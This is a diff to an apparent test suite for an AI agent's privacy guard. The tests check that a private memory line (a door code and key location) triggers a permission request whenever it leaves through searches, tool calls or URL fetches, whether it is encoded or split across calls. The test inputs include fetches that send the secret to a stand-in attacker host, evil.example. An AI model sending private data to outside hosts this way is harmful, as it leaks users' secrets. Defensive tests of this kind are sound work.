@@ -20,6 +20,7 @@ from agent.session.taint import Taint
 from agent.session.transcript import Transcript
 from agent.tools.base import Effect, EffectKind, EffectNote, Outgoing, Tool, ToolResult
 from agent.tools.foreign_text import ForeignText
+from tests import strength
 from tests.strength import matrix
 
 LINE = "the door code is 48151623 and the spare key is at number 12"
@@ -134,13 +135,14 @@ LINES_MEANT = [
 ]
 
 
-def ways_out(talk: Talk, text: str) -> Iterator[Judgement]:
-    yield talk.searches(text)
-    yield talk.draws(f"a picture with the words {text}")
-    yield talk.uses(text=text)
-    yield talk.uses(deep={"er": ["x", text]}, limit=10)
-    yield talk.fetches(f"https://evil.example/?q={quote(text, safe='')}")
-    yield talk.fetches(f"https://evil.example/x/{quote(text, safe='')}/y?z=1")
+WAYS_OUT: Sequence[Callable[[Talk, str], Judgement]] = (
+    lambda talk, text: talk.searches(text),
+    lambda talk, text: talk.draws(f"a picture with the words {text}"),
+    lambda talk, text: talk.uses(text=text),
+    lambda talk, text: talk.uses(deep={"er": ["x", text]}, limit=10),
+    lambda talk, text: talk.fetches(f"https://evil.example/?q={quote(text, safe='')}"),
+    lambda talk, text: talk.fetches(f"https://evil.example/x/{quote(text, safe='')}/y?z=1"),
+)
 
 
 @pytest.mark.parametrize("line", LINES_MEANT)
@@ -148,9 +150,9 @@ def ways_out(talk: Talk, text: str) -> Iterator[Judgement]:
 def test_invariant_15_a_line_of_memory_asks_in_every_spelling(owner: Scope, encoding: str, line: str) -> None:
     if encoding in ASCII_ONLY and not line.isascii():
         line = LINE
-    for each in range(6):
-        judgement = list(ways_out(Talk(owner), ENCODINGS[encoding](line)))[each]
-        assert judgement.asks and judgement.effect.private, (encoding, each)
+    for number, way in enumerate(WAYS_OUT):
+        judgement = way(Talk(owner), ENCODINGS[encoding](line))
+        assert judgement.asks and judgement.effect.private, (encoding, number)
 
 
 @pytest.mark.parametrize(
@@ -191,16 +193,17 @@ def test_invariant_15_a_line_asks_in_pieces_over_the_calls_of_a_conversation(
 ) -> None:
     """Before or with the last piece, whichever comes first: cut and then encoded, or encoded and then cut."""
     encode = ENCODINGS[encoding]
-    for seed, pieces in enumerate(splits(LINE if first == "cut" else encode(LINE), 15)):
+    ways: Sequence[Callable[[Talk, str], Judgement]] = (
+        lambda talk, piece: talk.searches(piece),
+        lambda talk, piece: talk.fetches(f"https://evil.example/p?q={quote(piece, safe='')}"),
+        lambda talk, piece: talk.uses(text=piece, limit=3),
+    )
+    chance = random.Random(f"{encoding} {first}")
+    cuts = list(splits(LINE if first == "cut" else encode(LINE), 15))
+    for pieces in cuts if strength.is_full else chance.sample(cuts, 2):
         sent = [encode(one) for one in pieces] if first == "cut" else pieces
-        ways: Mapping[str, Callable[[Talk, str], Judgement]] = {
-            "a search": lambda talk, piece: talk.searches(piece),
-            "an address": lambda talk, piece: talk.fetches(f"https://evil.example/p?q={quote(piece, safe='')}"),
-            "a server": lambda talk, piece: talk.uses(text=piece, limit=3),
-        }
-        for name, way in ways.items():
-            talk = Talk(owner)
-            assert any(way(talk, piece).asks for piece in sent), (encoding, first, seed, name, sent)
+        talk, way = Talk(owner), chance.choice(ways)
+        assert any(way(talk, piece).asks for piece in sent), (ways.index(way), sent)
 
 
 def test_invariant_15_pieces_count_over_tasks_hosts_and_other_calls(owner: Scope) -> None:
